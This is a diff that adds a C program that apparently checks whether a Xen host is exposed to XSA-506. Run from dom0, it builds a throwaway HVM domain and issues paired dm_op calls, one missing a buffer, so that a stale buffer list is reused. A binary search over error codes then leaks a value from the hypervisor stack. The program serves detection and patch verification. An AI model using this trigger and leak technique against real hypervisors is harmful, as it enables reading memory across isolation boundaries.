@@ -1,0 +1,221 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Shows whether XSA-506 (CVE-2026-62433) is open: does the hypervisor carry out a device-model
+ * operation although the caller handed over fewer buffers than that operation has?
+ *
+ * It makes an HVM domain without memory or toolstack, turns dirty logging on for it, and issues
+ * dm_op in pairs: an honest call, which leaves its buffer list behind on the hypervisor's stack,
+ * then the same call with a buffer missing. Where the hole is open, the second call is served from
+ * what the first left behind. A pair travels in one multicall, so that nothing runs in between.
+ *
+ * Runs in dom0, as root, with /dev/xen/privcmd. Needs Xen's public headers to compile (libxen-dev).
+ * Exit status: 0 closed, 1 open, 2 cannot tell.
+ */
+#define _GNU_SOURCE
+#define __XEN_TOOLS__ 1
+#include <errno.h>
+#include <fcntl.h>
+#include <inttypes.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+#include <xen/domctl.h>
+#include <xen/hvm/dm_op.h>
+#include <xen/xen.h>
+
+#include <xen/sys/privcmd.h>
+
+enum { closed = 0, open_hole = 1, cannot_tell = 2 };
+
+/* All that the hypervisor reads or writes, in one locked page: dom0 must not move it meanwhile. */
+struct shared {
+    struct xen_domctl domctl;
+    struct multicall_entry calls[2];
+    struct xen_dm_op_buf bufs[2], bufs_lacking[1];
+    struct xen_dm_op honest, lacking;
+    struct xen_dm_op_modified_memory_extent extent;
+};
+
+static int privcmd = -1;
+static struct shared* s;
+
+static long hypercall(uint64_t op, uint64_t a, uint64_t b, uint64_t c) {
+    struct privcmd_hypercall call = {.op = op, .arg = {a, b, c}};
+    long rc = ioctl(privcmd, IOCTL_PRIVCMD_HYPERCALL, &call);
+
+    return rc < 0 ? -(long)errno : rc;
+}
+
+static const char* word(long rc) {
+    return rc < 0 ? strerrorname_np((int)-rc) : "done";
+}
+
+static long domctl(uint32_t cmd, domid_t dom) {
+    s->domctl.cmd = cmd;
+    s->domctl.interface_version = XEN_DOMCTL_INTERFACE_VERSION;
+    s->domctl.domain = dom;
+    return hypercall(__HYPERVISOR_domctl, (uintptr_t)&s->domctl, 0, 0);
+}
+
+/*
+ * dm_op(s->honest) with all its `nr_bufs` buffers, and at once dm_op with one fewer. The buffer
+ * list of the second names s->lacking. Returns the second's result, the first's in *honest.
+ */
+static long one_fewer(domid_t dom, unsigned int nr_bufs, long* honest) {
+    for (unsigned int i = 0; i < 2; i++) {
+        s->calls[i].op = __HYPERVISOR_dm_op;
+        s->calls[i].args[0] = dom;
+        s->calls[i].args[1] = nr_bufs - i;
+        s->calls[i].args[2] = (uintptr_t)(i ? s->bufs_lacking : s->bufs);
+        s->calls[i].result = -EIO;
+    }
+    hypercall(__HYPERVISOR_multicall, (uintptr_t)s->calls, 2, 0);
+    *honest = (long)s->calls[0].result;
+    return (long)s->calls[1].result;
+}
+
+static void name_buffer(struct xen_dm_op_buf* buf, void* memory, uint64_t size) {
+    set_xen_guest_handle(buf->h, memory);
+    buf->size = size;
+}
+
+/* One vCPU, dirty logging on, never run. Returns the domain's id, or a negative errno. */
+static long make_domain(const char** step) {
+    long rc;
+    domid_t dom;
+
+    memset(s, 0, sizeof(*s));
+    *step = "create an HVM domain";
+    s->domctl.u.createdomain.flags = XEN_DOMCTL_CDF_hvm;
+    s->domctl.u.createdomain.max_vcpus = 1;
+    s->domctl.u.createdomain.max_evtchn_port = 15;
+    s->domctl.u.createdomain.max_grant_frames = -1;
+    s->domctl.u.createdomain.max_maptrack_frames = -1;
+    s->domctl.u.createdomain.grant_opts = XEN_DOMCTL_GRANT_version(1);
+    s->domctl.u.createdomain.arch.emulation_flags = XEN_X86_EMU_LAPIC;
+    rc = domctl(XEN_DOMCTL_createdomain, 0);
+    if (rc < 0)
+        return rc;
+    dom = s->domctl.domain;
+
+    *step = "give it a vCPU";
+    memset(&s->domctl.u, 0, sizeof(s->domctl.u));
+    s->domctl.u.max_vcpus.max = 1;
+    rc = domctl(XEN_DOMCTL_max_vcpus, dom);
+    if (rc >= 0) {
+        *step = "log its dirty pages";
+        memset(&s->domctl.u, 0, sizeof(s->domctl.u));
+        s->domctl.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_ENABLE_LOGDIRTY;
+        rc = domctl(XEN_DOMCTL_shadow_op, dom);
+    }
+    if (rc < 0) {
+        domctl(XEN_DOMCTL_destroydomain, dom);
+        return rc;
+    }
+    return dom;
+}
+
+/* Asks how many vCPUs there are, then asks again without a buffer to put the answer into. */
+static int no_buffer(domid_t dom) {
+    long honest, rc;
+
+    name_buffer(&s->bufs[0], &s->honest, sizeof(s->honest));
+    s->honest = (struct xen_dm_op){.op = XEN_DMOP_nr_vcpus};
+    rc = one_fewer(dom, 1, &honest);
+    if (honest) {
+        printf("no buffer at all: cannot tell, an honest call fails: %s\n", word(honest));
+        return cannot_tell;
+    }
+    if (rc == -ENODATA) {
+        printf("no buffer at all: refused (%s)\n", word(rc));
+        return closed;
+    }
+    if (rc == 0)
+        printf("no buffer at all: carried out, with the buffer of the call before\n");
+    else
+        printf("no buffer at all: %s, after a look at a buffer that was never given\n", word(rc));
+    return open_hole;
+}
+
+/*
+ * Marks `extents` extents in a second buffer that is not there. EINVAL: refused, they would not fit
+ * into it. EFAULT: they would, but it cannot be read. The honest call before has nothing to do; its
+ * only purpose is the size of a second buffer, enough for `left_behind` extents.
+ */
+static long one_of_two(domid_t dom, uint32_t extents, uint32_t left_behind, long* honest) {
+    name_buffer(&s->bufs[0], &s->honest, sizeof(s->honest));
+    name_buffer(&s->bufs[1], &s->extent, (uint64_t)left_behind * sizeof(s->extent));
+    name_buffer(&s->bufs_lacking[0], &s->lacking, sizeof(s->lacking));
+    s->honest = (struct xen_dm_op){.op = XEN_DMOP_modified_memory};
+    s->lacking = s->honest;
+    s->lacking.u.modified_memory.nr_extents = extents;
+    return one_fewer(dom, 2, honest);
+}
+
+/* Learns a number on the hypervisor's stack from nothing but the two errors, halving each time. */
+static int leak(domid_t dom) {
+    const uint32_t secret = 0x5ec2e7;
+    uint32_t fits = 0, too_many = UINT32_MAX;
+    long honest = 0, rc = 0;
+
+    while (too_many - fits > 1) {
+        uint32_t middle = fits + (too_many - fits) / 2;
+
+        rc = one_of_two(dom, middle, secret, &honest);
+        if (honest || (rc != -EFAULT && rc != -EINVAL)) {
+            printf("one buffer of two: cannot tell: %s, %s\n", word(honest), word(rc));
+            return cannot_tell;
+        }
+        if (rc == -EFAULT)
+            fits = middle;
+        else
+            too_many = middle;
+    }
+    if (fits == 0) {
+        printf("one buffer of two: refused whatever is asked (%s)\n", word(rc));
+        return closed;
+    }
+    printf("one buffer of two: leaked 0x%" PRIx32 " from the hypervisor's stack%s\n", fits,
+           fits == secret ? ", what the call before left there" : "");
+    return open_hole;
+}
+
+int main(void) {
+    const char* step = "";
+    int first, second, verdict;
+    long dom;
+
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    privcmd = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
+    if (privcmd < 0) {
+        printf("XSA-506: cannot tell: /dev/xen/privcmd: %s\n", strerror(errno));
+        return cannot_tell;
+    }
+    s = mmap(NULL, sizeof(*s), PROT_READ | PROT_WRITE,
+             MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
+    if (s == MAP_FAILED) {
+        printf("XSA-506: cannot tell: locked memory: %s\n", strerror(errno));
+        return cannot_tell;
+    }
+    dom = make_domain(&step);
+    if (dom < 0) {
+        printf("XSA-506: cannot tell: %s: %s\n", step, word(dom));
+        return cannot_tell;
+    }
+    first = no_buffer((domid_t)dom);
+    second = leak((domid_t)dom);
+    domctl(XEN_DOMCTL_destroydomain, (domid_t)dom);
+
+    verdict = first == open_hole || second == open_hole ? open_hole
+              : first == closed && second == closed     ? closed
+                                                        : cannot_tell;
+    printf("XSA-506: %s\n", verdict == closed      ? "closed"
+                            : verdict == open_hole ? "open"
+                                                   : "cannot tell");
+    return verdict;
+}
